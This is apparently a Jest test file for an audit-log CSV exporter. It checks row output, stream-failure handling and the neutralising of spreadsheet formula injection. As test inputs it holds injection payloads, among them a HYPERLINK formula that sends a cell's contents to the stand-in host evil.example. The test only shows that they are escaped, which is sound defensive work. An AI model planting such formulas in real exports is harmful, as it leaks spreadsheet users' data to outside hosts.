import { Readable, Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import type { AuditRecordEntity } from '@docaxis/persistence/audit/audit-record.entity';
import { payloadDigestOf, recordHashOf } from '../chain/audit-record-hash';
import { writeAuditCsv } from './audit-csv-export';
import { spreadsheetCellValue } from './spreadsheet-safe-cell';

function record(seq: number): AuditRecordEntity {
  return {
    seq,
    eventId: `e${seq}`,
    eventType: 'dispatch.submitted',
    occurredAt: new Date(Date.UTC(2026, 10, 24, 6, 0, seq)),
    recordedAt: new Date(Date.UTC(2026, 10, 24, 6, 0, seq)),
    dispatchId: null,
    senderCode: '000.00.00.G22',
    recipientCode: null,
    actor: null,
    payload: { n: seq },
    payloadDigest: 'd'.repeat(64),
    prevHash: '0'.repeat(64),
    hash: '1'.repeat(64),
  };
}

/** Records 1..n, noting whether the reader closed the source (a database cursor in the app). */
function source(n: number): { records: AsyncIterable<AuditRecordEntity>; closed: () => boolean } {
  let closed = false;
  async function* records(): AsyncGenerator<AuditRecordEntity> {
    try {
      for (let seq = 1; seq <= n; seq++) {
        // A cursor's read resolves on a later turn.
        await new Promise(setImmediate);
        yield record(seq);
      }
    } finally {
      closed = true;
    }
  }
  return { records: records(), closed: () => closed };
}

describe('writeAuditCsv', () => {
  it('writes the header and one row per record, and counts them', async () => {
    let text = '';
    const out = new Writable({
      write(chunk: Buffer, _encoding, done) {
        text += chunk.toString('utf8');
        done();
      },
    });
    const { records, closed } = source(3);
    expect(await writeAuditCsv(records, out)).toBe(3);
    const lines = text.trimEnd().split('\n');
    expect(lines[0]).toBe(
      'seq,event_id,event_type,occurred_at,recorded_at,dispatch_id,sender_code,recipient_code,actor,payload,payload_digest,prev_hash,hash',
    );
    expect(lines.slice(1).map((line) => line.split(',')[0])).toEqual(['1', '2', '3']);
    expect(closed()).toBe(true);
  });

  it('neutralises cells a spreadsheet would run as formulas, and the rows still re-hash', async () => {
    // A certificate subject and an event id are chosen outside the axis; a payload string too.
    const fields = {
      seq: 7,
      eventId: '@SUM(1+1)*cmd',
      eventType: 'dispatch.submitted',
      occurredAt: new Date(Date.UTC(2026, 10, 24, 6, 0, 7)),
      recordedAt: new Date(Date.UTC(2026, 10, 24, 6, 0, 8)),
      dispatchId: null,
      senderCode: '+000.00.00.G22',
      recipientCode: '-1',
      actor: '=HYPERLINK("http://evil.example/?x="&A1,"open")',
      payloadDigest: payloadDigestOf({ note: '=1+1' }),
      prevHash: '0'.repeat(64),
    };
    const tricky: AuditRecordEntity = {
      ...fields,
      payload: { note: '=1+1' },
      hash: recordHashOf(fields),
    };
    const quoted: AuditRecordEntity = {
      ...record(8),
      actor: "'already quoted",
      eventId: '\t=tab',
      eventType: '\r=cr',
    };
    let text = '';
    const out = new Writable({
      write(chunk: Buffer, _encoding, done) {
        text += chunk.toString('utf8');
        done();
      },
    });
    await writeAuditCsv(Readable.from([tricky, quoted]), out);
    const rows = parse<Record<string, string>>(text, { columns: true });
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(rows[0]).toMatchObject({
      event_id: "'@SUM(1+1)*cmd",
      sender_code: "'+000.00.00.G22",
      recipient_code: "'-1",
      actor: `'${fields.actor}`,
    });
    expect(rows[1]).toMatchObject({
      actor: "''already quoted",
      event_id: "'\t=tab",
      event_type: "'\r=cr",
    });
    // The documented reversal: one leading apostrophe dropped gives the hashed values back.
    const value = spreadsheetCellValue;
    const [row] = rows;
    const rehashed = recordHashOf({
      seq: Number(row.seq),
      eventId: value(row.event_id),
      eventType: value(row.event_type),
      occurredAt: new Date(row.occurred_at),
      recordedAt: new Date(row.recorded_at),
      dispatchId: row.dispatch_id === '' ? null : value(row.dispatch_id),
      senderCode: value(row.sender_code),
      recipientCode: value(row.recipient_code),
      actor: value(row.actor),
      payloadDigest: payloadDigestOf(JSON.parse(value(row.payload))),
      prevHash: row.prev_hash,
    });
    expect(rehashed).toBe(row.hash);
    expect(value(rows[1].actor)).toBe("'already quoted");
  });

  it('rejects and stops reading when the destination fails mid-export, never waits forever', async () => {
    let writes = 0;
    const out = new Writable({
      highWaterMark: 1,
      write(_chunk, _encoding, done) {
        writes += 1;
        // A client gone, a disk full: the destination fails after a few chunks.
        done(writes === 3 ? new Error('EPIPE: the reader went away') : null);
      },
    });
    const { records, closed } = source(100_000);
    await expect(writeAuditCsv(records, out)).rejects.toThrow('EPIPE');
    // Closed by the time it rejects, far before its end.
    expect(closed()).toBe(true);
  });

  it('rejects only once the read in flight has settled and the source is closed', async () => {
    // The destination fails before the first record arrives (a file that cannot be opened) while
    // the first read, a page query in the app, is still running; it answers a turn later.
    const events: string[] = [];
    let reads = 0;
    let readsInFlight = 0;
    async function* records(): AsyncGenerator<AuditRecordEntity> {
      try {
        for (let seq = 1; seq <= 5_000; seq++) {
          reads += 1;
          readsInFlight += 1;
          if (seq === 1) out.destroy(new Error('ENOENT: no such file or directory'));
          await new Promise(setImmediate);
          readsInFlight -= 1;
          events.push(`read ${seq} settled`);
          yield record(seq);
        }
      } finally {
        events.push('source closed');
      }
    }
    const out = new Writable({ write: (_chunk, _encoding, done) => done() });
    await writeAuditCsv(records(), out).catch((error: Error) =>
      events.push(`rejected: ${error.message}`),
    );
    expect(events).toEqual([
      'read 1 settled',
      'source closed',
      'rejected: ENOENT: no such file or directory',
    ]);
    expect({ reads, readsInFlight }).toEqual({ reads: 1, readsInFlight: 0 });
  });
});
